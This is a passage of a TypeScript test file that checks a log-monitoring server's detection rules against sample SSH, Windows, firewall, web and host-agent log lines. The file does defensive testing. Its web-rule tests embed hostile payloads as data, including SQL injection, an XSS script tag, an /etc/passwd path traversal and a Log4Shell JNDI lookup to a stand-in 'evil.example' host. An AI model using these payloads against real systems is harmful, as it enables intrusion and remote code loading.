/**
 * The built-in rule pack (`packages/server/rules/builtin/**`): every file compiles, and every rule fires
 * on realistic attack lines and stays quiet on benign ones. Lines go through core's `parseLine` and the
 * streaming engine exactly as in production, replayed in event-time order with the clock at each
 * event's time. Where the shared corpus has real attack logs (CrowdSec hub tests, Windows XML, firewall
 * logs) they are used; those cases skip with a message when the corpus is absent and CI is unset.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Signal, VigilEvent } from '@vigil/contracts';
import { defaultCorpusDir } from '../../../../scripts/corpus.ts';
import { loadPackFiles, parseLines, replay, signalIps } from '../../../../scripts/crowdsec-conformance.ts';
import { loadBuiltinRules } from '../../src/rules/builtin-rules.ts';

const pack = loadPackFiles();

describe('the server loads the pack', () => {
  it('finds every pack file and leaves none out', () => {
    const loaded = loadBuiltinRules();
    expect(loaded.problems).toEqual([]);
    expect(loaded.docs.length).toBe(pack.length);
  });
});
const rules = new Map(pack.flatMap((p) => (p.rule ? [[p.rule.doc.id, p.rule] as const] : [])));
const corpus = defaultCorpusDir();
const hasCorpus = existsSync(corpus);
const corpusIt = it.skipIf(!hasCorpus && !process.env.CI);
if (!hasCorpus && !process.env.CI) console.warn(`builtin-pack.test: corpus cases skipped, corpus not found at ${corpus}`);

/** The lines of a corpus file (fails under CI when it is missing). */
function corpusLines(rel: string): string[] {
  return readFileSync(join(corpus, rel), 'utf8').split('\n');
}

/** Runs one pack rule over lines (or events); `settleMs` advances the clock past the last event afterwards. */
function run(ruleId: string, input: readonly string[] | readonly VigilEvent[], settleMs = 0): { signals: Signal[]; ips: string[] } {
  const rule = rules.get(ruleId);
  if (!rule) throw new Error(`no pack rule ${ruleId}`);
  const events = typeof input[0] === 'string' || input.length === 0 ? parseLines(input as string[]) : (input as VigilEvent[]);
  const byId = new Map(events.map((e) => [e.id, e]));
  const signals = replay([rule], events, settleMs);
  return { signals, ips: [...new Set(signals.flatMap((s) => signalIps(s, byId)))].sort() };
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const T0 = Date.UTC(2026, 2, 1, 10);

/** An RFC 3164 header at `T0 + sec` seconds (UTC) for `host program[pid]:`. */
function sys(sec: number, host: string, program: string, msg: string): string {
  const d = new Date(T0 + sec * 1000);
  const day = String(d.getUTCDate()).padStart(2, ' ');
  const hms = d.toISOString().slice(11, 19);
  return `<86>${MONTHS[d.getUTCMonth()]} ${day} ${hms} ${host} ${program}: ${msg}`;
}

/** A combined-log line at `T0 + sec`. */
function web(sec: number, ip: string, request: string, status = 200, agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'): string {
  const d = new Date(T0 + sec * 1000);
  const stamp = `${String(d.getUTCDate()).padStart(2, '0')}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${d.toISOString().slice(11, 19)} +0000`;
  return `${ip} - - [${stamp}] "${request} HTTP/1.1" ${status} 512 "-" "${agent}"`;
}

/** A Snare record (TAB-separated, the description as given) at `T0 + sec`. */
function snare(sec: number, eventId: string, type: string, category: string, description: string): string {
  const T = '\t';
  const d = new Date(T0 + sec * 1000);
  const ctime = `Sun ${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)} ${d.getUTCFullYear()}`;
  return `<14>${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)} DC01 MSWinEventLog${T}1${T}Security${T}${88000 + sec}${T}${ctime}${T}${eventId}${T}Microsoft-Windows-Security-Auditing${T}N/A${T}N/A${T}${type}${T}DC01.example.local${T}${category}${T}${T}${description}${T}${88000 + sec}`;
}

/** A Windows 4625 as Snare sends it with the description flattened onto one line with single spaces. */
function flat4625(sec: number, user: string, ip: string): string {
  return snare(sec, '4625', 'Failure Audit', 'Logon', `An account failed to log on. Subject: Security ID: S-1-0-0 Account Name: - Account Domain: - Logon ID: 0x0 Logon Type: 3 Account For Which Logon Failed: Security ID: S-1-0-0 Account Name: ${user} Account Domain: EXAMPLE Failure Information: Failure Reason: Unknown user name or bad password. Status: 0xC000006D Sub Status: 0xC000006A Process Information: Caller Process ID: 0x0 Caller Process Name: - Network Information: Workstation Name: - Source Network Address: ${ip} Source Port: 0 Detailed Authentication Information: Logon Process: NtLmSsp Authentication Package: NTLM Transited Services: - Package Name (NTLM only): - Key Length: 0`);
}

/** An agent metric sample as JSON. */
function metric(sec: number, host: string, fields: Record<string, unknown>): string {
  return JSON.stringify({ '@timestamp': new Date(T0 + sec * 1000).toISOString(), 'event.dataset': 'agent.metrics', 'host.name': host, ...fields });
}

const range = (n: number) => Array.from({ length: n }, (_, i) => i);

describe('built-in pack files', () => {
  it('every file compiles, ids are unique and match the file names, and there are at least 25 rules', () => {
    expect(pack.filter((p) => p.errors).map((p) => `${p.file}: ${JSON.stringify(p.errors)}`)).toEqual([]);
    const ids = pack.map((p) => p.rule!.doc.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const p of pack) expect(p.file.replace(/^.*\//, '').replace(/\.yaml$/, '')).toBe(p.rule!.doc.id);
    expect(ids.length).toBeGreaterThanOrEqual(25);
  });

  it('every rule has severity, a description and ATT&CK or availability tags', () => {
    for (const p of pack) {
      const d = p.rule!.doc;
      expect(d.description, d.id).toBeTruthy();
      expect((d.tags ?? []).some((t) => t.startsWith('attack.') || t === 'availability' || t === 'network'), d.id).toBe(true);
    }
  });

  it('every rule outside snmp/ (tested in test/snmp) has a case in this file', () => {
    const src = readFileSync(new URL(import.meta.url), 'utf8');
    const untested = pack.filter((p) => !p.file.startsWith('snmp/') && !src.includes(`run('${p.rule!.doc.id}'`)).map((p) => p.rule!.doc.id);
    expect(untested).toEqual([]);
  });
});

describe('SSH rules', () => {
  corpusIt('ssh-brute-force fires on the CrowdSec ssh-bf and invalid-bf logs', () => {
    expect(run('ssh-brute-force', corpusLines('auth-sshd/crowdsec/ssh-bf.log')).ips).toEqual(['35.188.49.176']);
    expect(run('ssh-brute-force', corpusLines('auth-sshd/crowdsec/sshd-invalid-bf.log')).ips).toEqual(['179.43.183.98']);
    // One try every 30 s is the slow rule's job, not this one's.
    expect(run('ssh-brute-force', corpusLines('auth-sshd/crowdsec/ssh-slow-bf.log')).ips).toEqual([]);
  });

  it('ssh-brute-force: fires once per source, not on a user who mistypes twice', () => {
    const attack = range(8).map((i) => sys(i * 3, 'bastion', 'sshd[4121]', `Failed password for root from 203.0.113.5 port ${50000 + i} ssh2`));
    const benign = [
      sys(0, 'bastion', 'sshd[1]', 'Failed password for alice from 198.51.100.7 port 40022 ssh2'),
      sys(5, 'bastion', 'sshd[1]', 'Failed password for alice from 198.51.100.7 port 40022 ssh2'),
      sys(9, 'bastion', 'sshd[1]', 'Accepted password for alice from 198.51.100.7 port 40022 ssh2'),
    ];
    const r = run('ssh-brute-force', [...attack, ...benign]);
    expect(r.ips).toEqual(['203.0.113.5']);
    expect(r.signals).toHaveLength(1);
    expect(r.signals[0]!.title).toBe('SSH brute force from 203.0.113.5');
  });

  corpusIt('ssh-slow-brute-force fires on the CrowdSec ssh-slow-bf log', () => {
    expect(run('ssh-slow-brute-force', corpusLines('auth-sshd/crowdsec/ssh-slow-bf.log')).ips).toEqual(['103.100.210.198']);
  });

  it('ssh-slow-brute-force: ten failures over 50 minutes fire, nine do not', () => {
    const slow = (ip: string, n: number) => range(n).map((i) => sys(i * 300, 'bastion', 'sshd[7]', `Failed password for invalid user u${i} from ${ip} port 4000${i} ssh2`));
    expect(run('ssh-slow-brute-force', [...slow('203.0.113.6', 10), ...slow('203.0.113.7', 9)]).ips).toEqual(['203.0.113.6']);
  });

  corpusIt('ssh-invalid-user-storm fires on the CrowdSec user enumeration', () => {
    expect(run('ssh-invalid-user-storm', corpusLines('auth-sshd/crowdsec/ssh-bf.log')).ips).toEqual(['35.188.49.176']);
  });

  it('ssh-invalid-user-storm: unknown users fire, a known user failing does not', () => {
    const unknown = range(5).map((i) => sys(i, 'h', 'sshd[9]', `Invalid user test${i} from 203.0.113.8 port 5000${i}`));
    const known = range(6).map((i) => sys(i, 'h', 'sshd[9]', `Failed password for alice from 198.51.100.9 port 5100${i} ssh2`));
    expect(run('ssh-invalid-user-storm', [...unknown, ...known]).ips).toEqual(['203.0.113.8']);
  });

  corpusIt('ssh-slow-user-enumeration fires on the CrowdSec time-based brute force', () => {
    // 10.0.0.101: four unknown users 20 minutes apart (CrowdSec flags it); 10.0.0.103: four within an hour
    // and four seconds; 10.0.0.100 and 10.0.0.102 try three names each.
    expect(run('ssh-slow-user-enumeration', corpusLines('auth-sshd/crowdsec/ssh-time-based-bf.log')).ips).toEqual(['10.0.0.101', '10.0.0.103']);
  });

  it('ssh-slow-user-enumeration: four names over 90 minutes fire; one name tried four times does not', () => {
    const names = range(4).map((i) => sys(i * 1800, 'h', 'sshd[8]', `Invalid user svc${i} from 203.0.113.12 port 5500${i}`));
    const same = range(4).map((i) => sys(i * 1800, 'h', 'sshd[8]', `Invalid user oracle from 203.0.113.13 port 5600${i}`));
    expect(run('ssh-slow-user-enumeration', [...names, ...same]).ips).toEqual(['203.0.113.12']);
  });

  corpusIt('ssh-preauth-errors fires on key-exchange, banner and regreSSHion-style timeouts', () => {
    expect(run('ssh-preauth-errors', corpusLines('auth-sshd/crowdsec/sshd-bad-keyexchange-bf.log')).ips).toEqual(['123.123.123.123', '123.57.135.134', '206.189.59.169']);
    expect(run('ssh-preauth-errors', corpusLines('auth-sshd/crowdsec/sshd_banner_exchange.log')).ips).toEqual(['59.91.122.57']);
    expect(run('ssh-preauth-errors', corpusLines('auth-sshd/crowdsec/ssh-timeout.log')).ips).toEqual(['192.168.9.212', '192.168.9.213']);
  });

  it('ssh-preauth-errors: three errors are not enough', () => {
    const lines = range(3).map((i) => sys(i, 'h', 'sshd[2]', `Unable to negotiate with 203.0.113.10 port 4562${i}: no matching key exchange method found.`));
    expect(run('ssh-preauth-errors', lines).ips).toEqual([]);
    expect(run('ssh-preauth-errors', [...lines, sys(4, 'h', 'sshd[2]', 'fatal: Timeout before authentication for 203.0.113.10 port 47056')]).ips).toEqual(['203.0.113.10']);
  });

  corpusIt('ssh-connection-refused fires on the CrowdSec refused-conn log', () => {
    expect(run('ssh-connection-refused', corpusLines('auth-sshd/crowdsec/sshd-refused-conn.log')).ips).toEqual(['192.168.1.1']);
  });

  it('ssh-connection-refused: once per address per hour, never on accepted logins', () => {
    const lines = [
      sys(0, 'h', 'sshd[3]', 'refused connect from scanner.example (192.0.2.16)'),
      sys(60, 'h', 'sshd[3]', 'refused connect from scanner.example (192.0.2.16)'),
      sys(60, 'h', 'sshd[3]', 'Accepted publickey for deploy from 198.51.100.7 port 40022 ssh2: ED25519 SHA256:Qm9v'),
    ];
    const r = run('ssh-connection-refused', lines);
    expect(r.ips).toEqual(['192.0.2.16']);
    expect(r.signals).toHaveLength(1);
  });

  it('ssh-success-after-failures: failures then a success from the same address', () => {
    const fails = range(6).map((i) => sys(i * 5, 'bastion', 'sshd[11]', `Failed password for root from 203.0.113.20 port 6000${i} ssh2`));
    const win = sys(40, 'bastion', 'sshd[11]', 'Accepted password for root from 203.0.113.20 port 60010 ssh2');
    // Another address only succeeds; a third only fails.
    const other = [sys(41, 'bastion', 'sshd[12]', 'Accepted publickey for deploy from 198.51.100.7 port 40022 ssh2: ED25519 SHA256:Qm9v'), ...range(6).map((i) => sys(i, 'bastion', 'sshd[13]', `Failed password for root from 203.0.113.21 port 6100${i} ssh2`))];
    const r = run('ssh-success-after-failures', [...fails, win, ...other]);
    expect(r.ips).toEqual(['203.0.113.20']);
    expect(r.signals[0]!.eventIds).toHaveLength(6);
    expect(run('ssh-success-after-failures', [win, ...fails]).ips).toEqual(['203.0.113.20']);
    // Success first, failures after: not this pattern (order is by event time).
    const early = sys(-10, 'bastion', 'sshd[11]', 'Accepted password for root from 203.0.113.20 port 60010 ssh2');
    expect(run('ssh-success-after-failures', [early, ...fails]).ips).toEqual([]);
  });

  it('new-admin-login-source: root from a new address fires, the same address later and non-admin users do not', () => {
    const day = 86_400;
    const lines = [
      sys(0, 'bastion', 'sshd[1]', 'Accepted publickey for root from 198.51.100.7 port 40022 ssh2: ED25519 SHA256:Qm9v'),
      sys(day, 'bastion', 'sshd[1]', 'Accepted publickey for root from 198.51.100.7 port 40023 ssh2: ED25519 SHA256:Qm9v'),
      sys(2 * day, 'bastion', 'sshd[1]', 'Accepted password for alice from 203.0.113.30 port 40024 ssh2'),
      sys(3 * day, 'bastion', 'sshd[1]', 'Accepted password for root from 203.0.113.31 port 40025 ssh2'),
      sys(3 * day, 'bastion', 'sshd[1]', 'Failed password for root from 203.0.113.32 port 40026 ssh2'),
    ];
    const r = run('new-admin-login-source', lines, 10 * 60_000);
    expect(r.signals.map((s) => s.title)).toEqual(['root logged in from new address 198.51.100.7', 'root logged in from new address 203.0.113.31']);
  });

  it('password-spray: many user names from one address fire; many tries of one name do not', () => {
    const spray = range(12).map((i) => sys(i * 10, 'h', 'sshd[5]', `Invalid user user${i} from 203.0.113.40 port 5200${i}`));
    const hammer = range(12).map((i) => sys(i * 10, 'h', 'sshd[6]', `Failed password for root from 203.0.113.41 port 5300${i} ssh2`));
    const windows = range(10).map((i) => flat4625(i * 10, `emp${i}`, '203.0.113.42'));
    expect(run('password-spray', [...spray, ...hammer, ...windows]).ips).toEqual(['203.0.113.40', '203.0.113.42']);
  });
});

describe('Linux rules', () => {
  it('sudo-root-new-user: the first sudo to root per user fires, repeats and other target users do not', () => {
    const lines = [
      sys(0, 'web-1', 'sudo', '   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx'),
      sys(600, 'web-1', 'sudo', '   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id'),
      sys(900, 'web-1', 'sudo', '     bob : TTY=pts/1 ; PWD=/srv ; USER=postgres ; COMMAND=/usr/bin/psql'),
      sys(1200, 'web-1', 'sudo', '   mallory : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash'),
    ];
    expect(run('sudo-root-new-user', lines, 10 * 60_000).signals.map((s) => s.group['user.name'])).toEqual(['alice']);
  });

  it('sudo-auth-failures: three failures by one user fire, one does not', () => {
    const bad = (sec: number, user: string) => sys(sec, 'web-1', 'sudo', `   ${user} : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=/bin/bash`);
    const r = run('sudo-auth-failures', [bad(0, 'mallory'), bad(60, 'mallory'), bad(120, 'mallory'), bad(0, 'alice')]);
    expect(r.signals.map((s) => s.group['user.name'])).toEqual(['mallory']);
  });

  it('linux-admin-group-member-added: usermod -aG sudo and gpasswd -a wheel fire; docker does not', () => {
    const lines = [
      sys(0, 'web-1', 'usermod[7001]', "add 'eve' to group 'sudo'"),
      sys(0, 'web-1', 'usermod[7001]', "add 'eve' to shadow group 'sudo'"),
      sys(10, 'web-2', 'gpasswd[7002]', 'user bob added by root to group wheel'),
      sys(20, 'web-1', 'usermod[7003]', "add 'ci' to group 'docker'"),
    ];
    expect(run('linux-admin-group-member-added', lines).signals.map((s) => s.title)).toEqual([
      'eve added to admin group sudo on web-1',
      'eve added to admin group sudo on web-1',
      'bob added to admin group wheel on web-2',
    ]);
  });

  it('linux-user-created: useradd fires; a failed useradd does not', () => {
    const lines = [
      sys(0, 'localhost', 'useradd[6995]', 'new user: name=apache, UID=48, GID=48, home=/usr/share/httpd, shell=/sbin/nologin'),
      sys(5, 'collectd', 'useradd[15178]', "failed adding user 'ansible', data deleted"),
    ];
    expect(run('linux-user-created', lines).signals.map((s) => s.title)).toEqual(['Local user apache created on localhost']);
  });
});

describe('Windows rules', () => {
  corpusIt('windows-logon-failure-storm fires on the CrowdSec windows-bf XML events', () => {
    expect(run('windows-logon-failure-storm', corpusLines('windows-xml/crowdsec/windows-bf.log')).ips).toEqual(['192.168.9.212']);
  });

  it('windows-logon-failure-storm: works on Snare lines flattened with single spaces; four failures do not fire', () => {
    const storm = range(5).map((i) => flat4625(i * 20, `guess${i}`, '203.0.113.50'));
    const few = range(4).map((i) => flat4625(i * 20, 'alice', '198.51.100.50'));
    const r = run('windows-logon-failure-storm', [...storm, ...few]);
    expect(r.ips).toEqual(['203.0.113.50']);
    expect(r.signals[0]!.title).toBe('Windows logon failures from 203.0.113.50');
  });

  it('windows-user-account-created: 4720 fires, 4624 does not', () => {
    const lines = [
      snare(0, '4720', 'Success Audit', 'User Account Management', 'A user account was created.    Subject:   Security ID:  S-1-5-21-1   Account Name:  admin   Account Domain:  EXAMPLE   Logon ID:  0x1    New Account:   Security ID:  S-1-5-21-2   Account Name:  svc_backup   Account Domain:  EXAMPLE'),
      snare(5, '4624', 'Success Audit', 'Logon', 'An account was successfully logged on.    Subject:   Security ID:  S-1-5-18   Account Name:  DC01$    New Logon:   Security ID:  S-1-5-21-1-2-3-1104   Account Name:  alice   Account Domain:  EXAMPLE    Network Information:   Source Network Address:  198.51.100.7'),
    ];
    expect(run('windows-user-account-created', lines).signals.map((s) => s.title)).toEqual(['Windows account svc_backup created by admin on DC01.example.local']);
  });

  it('windows-admin-group-member-added: 4732 to Administrators fires (also flattened), to Users does not', () => {
    const add = (sec: number, group: string, sep: string) =>
      snare(sec, '4732', 'Success Audit', 'Security Group Management', ['A member was added to a security-enabled local group.', 'Subject:', 'Security ID:', 'S-1-5-21-1', 'Account Name:', 'admin', 'Member:', 'Security ID:', 'S-1-5-21-9', 'Account Name:', 'CN=bob,OU=Users,DC=example,DC=local', 'Group:', 'Security ID:', 'S-1-5-32-544', 'Group Name:', group, 'Group Domain:', 'Builtin'].join(sep));
    const r = run('windows-admin-group-member-added', [add(0, 'Administrators', '   '), add(10, 'Users', '   '), add(20, 'Administrators', ' '), add(30, 'Users', ' ')]);
    expect(r.signals.map((s) => s.title)).toEqual(['CN=bob,OU=Users,DC=example,DC=local added to Administrators by admin', 'CN=bob,OU=Users,DC=example,DC=local added to Administrators by admin']);
  });

  it('windows-audit-log-cleared: 1102 fires, 1100 (service shutdown) does not', () => {
    const ev = (id: number) => JSON.stringify({ EventID: id, Channel: 'Security', SourceName: 'Microsoft-Windows-Eventlog', Hostname: 'DC01.corp.local', EventTime: '2026-03-01 10:00:00', SubjectUserName: 'mallory', Message: 'x' });
    expect(run('windows-audit-log-cleared', [ev(1102), ev(1100)]).signals.map((s) => s.title)).toEqual(['Security log cleared on DC01.corp.local by mallory']);
  });
});

describe('network rules', () => {
  const ufw = (sec: number, src: string, dport: number, prefix = '[UFW BLOCK]') =>
    sys(sec, 'fw', 'kernel', `${prefix} IN=eth0 OUT= MAC=de:1c:88:64:10:19:5e:e1:a4:3b:cf:f0:08:00 SRC=${src} DST=10.0.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=43 ID=25313 PROTO=TCP SPT=52220 DPT=${dport} WINDOW=1024 RES=0x00 SYN URGP=0`);

  it('firewall-deny-storm: 100 blocks from one source fire, 99 do not, accepted traffic never', () => {
    const lines = [...range(100).map((i) => ufw(i, '203.0.113.60', 3389)), ...range(99).map((i) => ufw(i, '203.0.113.61', 3389)), ...range(150).map((i) => ufw(i, '198.51.100.62', 443, '[UFW ALLOW]'))];
    expect(run('firewall-deny-storm', lines).ips).toEqual(['203.0.113.60']);
  });

  corpusIt('port-scan fires on the CrowdSec iptables multi-port scan', () => {
    expect(run('port-scan', corpusLines('other-firewall/crowdsec/iptables-scan-multi-port.log')).ips).toEqual(['127.0.0.2', '62.34.17.168']);
  });

  it('port-scan: fifteen distinct ports fire; many hits on one port and accepted connections do not', () => {
    const lines = [...range(15).map((i) => ufw(i, '203.0.113.63', 1000 + i)), ...range(40).map((i) => ufw(i, '203.0.113.64', 22)), ...range(30).map((i) => ufw(i, '198.51.100.65', 2000 + i, '[UFW ALLOW]'))];
    expect(run('port-scan', lines).ips).toEqual(['203.0.113.63']);
  });

  corpusIt('login-brute-force fires on FortiGate SSL VPN and pfSense / OPNsense GUI guessing', () => {
    expect(run('login-brute-force', corpusLines('fortigate/crowdsec/fortinet-vpn-bf.log')).ips).toEqual(['192.168.0.1']);
    expect(run('login-brute-force', corpusLines('pfsense/crowdsec/pfsense-gui-auth.log')).ips).toEqual(['10.0.0.1']);
    expect(run('login-brute-force', corpusLines('pfsense/crowdsec/opnsense-gui-auth.log')).ips).toEqual(['1.2.3.4']);
    // sshd has its own rules.
    expect(run('login-brute-force', corpusLines('auth-sshd/crowdsec/ssh-bf.log')).ips).toEqual([]);
  });

  it('login-brute-force: four GUI failures do not fire', () => {
    const lines = range(4).map((i) => sys(i, 'pfSense', 'php-fpm[374]', "/index.php: webConfigurator authentication error for user 'admin' from: 10.9.9.9"));
    expect(run('login-brute-force', lines).ips).toEqual([]);
    expect(run('login-brute-force', [...lines, sys(5, 'pfSense', 'php-fpm[374]', "/index.php: webConfigurator authentication error for user 'admin' from: 10.9.9.9")]).ips).toEqual(['10.9.9.9']);
  });

  corpusIt('firewall-threat-alert fires on Palo Alto THREAT logs and not on filterlog traffic', () => {
    const r = run('firewall-threat-alert', corpusLines('paloalto/crowdsec/palo-alto-threat.log'));
    expect(r.ips).toEqual(['1.2.3.2', '1.2.3.6']);
    expect(r.signals.find((s) => s.group['source.ip'] === '1.2.3.2')!.severity).toBe('high');
    expect(r.signals.find((s) => s.group['source.ip'] === '1.2.3.6')!.severity).toBe('medium');
    expect(run('firewall-threat-alert', corpusLines('pfsense/crowdsec/pfsense-rfc5424-filterlog.log')).ips).toEqual([]);
  });
});

describe('web rules', () => {
  const benign = [
    web(0, '198.51.100.70', 'GET /products?id=42&sort=price'),
    web(1, '198.51.100.70', 'GET /static/app.3f9a1c.js'),
    web(2, '198.51.100.70', 'POST /api/v1/login', 401),
    web(3, '198.51.100.70', 'GET /search?q=select+a+selection+of+shoes'),
    web(4, '198.51.100.70', 'GET /blog/2026/03/how-to-use-env-files'),
    web(5, '198.51.100.70', 'GET /favicon.ico', 404),
  ];

  corpusIt('web-sqli fires on the CrowdSec SQLi probes', () => {
    expect(run('web-sqli', corpusLines('web-access/crowdsec/nginx-http-sqli-probing.log')).ips).toEqual(['127.0.0.1']);
  });

  it('web-sqli: union select and sleep( fire; ordinary queries do not', () => {
    expect(run('web-sqli', [...benign, web(10, '203.0.113.71', "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"), web(11, '203.0.113.72', 'GET /item?id=1%20AND%20SLEEP%285%29')]).ips).toEqual(['203.0.113.71', '203.0.113.72']);
  });

  corpusIt('web-xss fires on the CrowdSec XSS probes', () => {
    expect(run('web-xss', corpusLines('web-access/crowdsec/nginx-http-xss-probing.log')).ips).toEqual(['127.0.0.1']);
  });

  it('web-xss: script tags fire; ordinary pages do not', () => {
    expect(run('web-xss', [...benign, web(10, '203.0.113.73', 'GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E')]).ips).toEqual(['203.0.113.73']);
  });

  corpusIt('web-path-traversal fires on the CrowdSec traversal probes and Apache CVE-2021-41773 (access and error log)', () => {
    expect(run('web-path-traversal', corpusLines('web-access/crowdsec/nginx-http-path-traversal.log')).ips).toEqual(['127.0.0.1']);
    expect(run('web-path-traversal', corpusLines('web-access/crowdsec/apache-cve-2021-41773.log')).ips).toEqual(['172.17.0.1', '172.17.0.2', '88.168.206.87']);
  });

  it('web-path-traversal: ../../etc/passwd fires; ordinary paths do not', () => {
    expect(run('web-path-traversal', [...benign, web(10, '203.0.113.74', 'GET /download?file=../../../../etc/passwd')]).ips).toEqual(['203.0.113.74']);
  });

  corpusIt('web-log4shell fires on the CrowdSec Log4Shell requests (user agent and referrer)', () => {
    expect(run('web-log4shell', corpusLines('web-access/crowdsec/apache_log4j2_cve-2021-44228.log')).ips).toEqual(['192.168.1.3', '192.168.1.4', '192.168.1.5']);
  });

  it('web-log4shell: an encoded ${jndi in the URL fires; ordinary requests do not', () => {
    expect(run('web-log4shell', [...benign, web(10, '203.0.113.75', 'GET /?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D')]).ips).toEqual(['203.0.113.75']);
  });

  corpusIt('web-scanner-user-agent fires on Nikto', () => {
    expect(run('web-scanner-user-agent', corpusLines('web-access/crowdsec/nginx-bad-user-agent.log')).ips).toEqual(['127.0.0.1']);
  });

  it('web-scanner-user-agent: sqlmap fires once per hour; browsers and curl do not', () => {
    const r = run('web-scanner-user-agent', [...benign, web(10, '198.51.100.76', 'GET /', 200, 'curl/8.5.0'), web(11, '203.0.113.76', 'GET /?id=1', 200, 'sqlmap/1.8#stable (https://sqlmap.org)'), web(12, '203.0.113.76', 'GET /?id=2', 200, 'sqlmap/1.8#stable (https://sqlmap.org)')]);
    expect(r.ips).toEqual(['203.0.113.76']);
    expect(r.signals).toHaveLength(1);
  });

  corpusIt('web-sensitive-files fires on the CrowdSec sensitive-file probes', () => {
    expect(run('web-sensitive-files', corpusLines('web-access/crowdsec/nginx-http-sensitive-files.log')).ips).toEqual(['127.0.0.1']);
  });

  it('web-sensitive-files: /.git/config fires; a blog post about env files does not', () => {
    expect(run('web-sensitive-files', [...benign, web(10, '203.0.113.77', 'GET /.git/config', 404)]).ips).toEqual(['203.0.113.77']);
  });

  corpusIt('web-cve-probing fires on the CrowdSec CVE probes and the FortiOS path', () => {
    expect(run('web-cve-probing', corpusLines('web-access/crowdsec/http-cve-probing.log')).ips).toEqual(['127.0.0.1']);
  });

  it('web-cve-probing: /_ignition/execute-solution fires; ordinary pages do not', () => {
    expect(run('web-cve-probing', [...benign, web(10, '203.0.113.78', 'POST /_ignition/execute-solution', 404)]).ips).toEqual(['203.0.113.78']);
  });

  corpusIt('web-probing fires on malformed-request floods (nginx and Apache)', () => {
    expect(run('web-probing', corpusLines('web-access/crowdsec/nginx-http-malformed.log')).ips).toEqual(['1.2.3.4']);
    expect(run('web-probing', corpusLines('web-access/crowdsec/apache2-malformed.log')).ips).toEqual(['1.2.3.4']);
  });

  it('web-probing: ten distinct 404 paths in a minute fire; one missing favicon repeated does not', () => {
    const dirb = range(10).map((i) => web(i, '203.0.113.79', `GET /admin${i}.php`, 404));
    const favicon = range(30).map((i) => web(i, '198.51.100.79', 'GET /favicon.ico', 404));
    expect(run('web-probing', [...dirb, ...favicon, ...benign]).ips).toEqual(['203.0.113.79']);
  });
});

describe('health and metric rules', () => {
  it('silent-host: a host that stops for an hour fires once; a host that keeps talking does not', () => {
    const lines = [
      ...range(3).map((i) => sys(i * 60, 'db-1', 'sshd[1]', 'Received disconnect from 198.51.100.7 port 51234:11: disconnected by user')),
      ...range(20).map((i) => sys(i * 600, 'web-1', 'sshd[1]', 'Received disconnect from 198.51.100.7 port 51234:11: disconnected by user')),
    ];
    const r = run('silent-host', lines);
    expect(r.signals.map((s) => s.title)).toEqual(['db-1 stopped sending logs']);
  });

  it('silent-log-source: one dataset of a host going quiet fires while its other logs continue', () => {
    const lines = [
      sys(0, 'web-1', 'sshd[1]', 'Accepted publickey for deploy from 198.51.100.7 port 40022 ssh2: ED25519 SHA256:Qm9v'),
      ...range(16).map((i) => sys(i * 1800, 'web-1', 'sudo', '   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id')),
    ];
    expect(run('silent-log-source', lines).signals.map((s) => s.title)).toEqual(['sshd logs from web-1 stopped']);
  });

  it('high-cpu: ten minutes at or above 90 % fire; a short spike does not', () => {
    const busy = range(13).map((i) => metric(i * 60, 'web-1', { 'system.cpu.pct': 95 }));
    const spike = range(13).map((i) => metric(i * 60, 'web-2', { 'system.cpu.pct': i % 4 === 0 ? 99 : 20 }));
    expect(run('high-cpu', [...busy, ...spike], 5 * 60_000).signals.map((s) => s.title)).toEqual(['CPU above 90 % on web-1']);
  });

  it('high-disk: a full file system fires per mount point; a healthy one does not', () => {
    const full = range(20).map((i) => metric(i * 60, 'db-1', { 'system.filesystem.used.pct': 96.5, 'system.filesystem.mount_point': '/var' }));
    const ok = range(20).map((i) => metric(i * 60, 'db-1', { 'system.filesystem.used.pct': 41, 'system.filesystem.mount_point': '/' }));
    expect(run('high-disk', [...full, ...ok], 5 * 60_000).signals.map((s) => s.title)).toEqual(['Disk /var above 90 % on db-1']);
  });
});

/** A host agent event (as the server stores it: identity stamped) at `T0 + sec`, as JSON. */
function agentEvent(sec: number, host: string, fields: Record<string, unknown>): string {
  return JSON.stringify({ '@timestamp': new Date(T0 + sec * 1000).toISOString(), 'host.name': host, 'host.id': `id-${host}`, 'agent.id': `id-${host}`, 'event.module': 'agent', ...fields });
}

describe('host agent rules', () => {
  it('agent-host-offline: the sweeper’s host-offline event fires once per host; host-online does not', () => {
    const off = agentEvent(0, 'web-1', { 'event.dataset': 'agent.status', 'event.action': 'host-offline' });
    const again = agentEvent(60, 'web-1', { 'event.dataset': 'agent.status', 'event.action': 'host-offline' });
    const on = agentEvent(30, 'db-1', { 'event.dataset': 'agent.status', 'event.action': 'host-online' });
    expect(run('agent-host-offline', [off, on, again]).signals.map((s) => s.title)).toEqual(['Host web-1 is offline']);
  });

  it('agent-new-listening-port: a new port fires; a closed one does not', () => {
    const opened = agentEvent(0, 'web-1', { 'event.dataset': 'agent.port', 'event.action': 'port-opened', 'server.port': 4444, 'network.transport': 'tcp', 'process.name': 'nc' });
    const closed = agentEvent(1, 'web-1', { 'event.dataset': 'agent.port', 'event.action': 'port-closed', 'server.port': 80, 'network.transport': 'tcp' });
